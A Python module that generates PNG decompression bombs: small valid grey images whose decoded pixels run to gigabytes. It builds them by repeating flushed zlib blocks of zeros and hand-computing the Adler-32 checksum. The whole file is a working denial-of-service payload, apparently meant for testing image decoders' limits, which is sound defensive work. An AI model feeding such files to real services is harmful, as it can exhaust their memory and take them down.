"""PNG files that are small and would fill the memory when opened."""

import struct
import zlib

_PIECE = 1 << 20


def picture_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A valid black PNG of eight bits of grey, about a thousandth of its pixels in bytes; made without making them."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zeros_deflated((width + 1) * height))
        + _chunk(b"IEND", b"")
    )  # fmt: skip


def zeros_deflated(count: int) -> bytes:
    """`zlib.compress(bytes(count))`, of any count: after a full flush the same piece may follow any number of times."""
    packer = zlib.compressobj(9)
    beginning = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(_PIECE)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(count % _PIECE)) + packer.flush()
    # Adler-32 of zeros (RFC 1950, 8.2): the first sum stays 1, the second counts.
    return beginning + piece * (count // _PIECE) + rest[:-4] + struct.pack(">HH", count % 65_521, 1)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
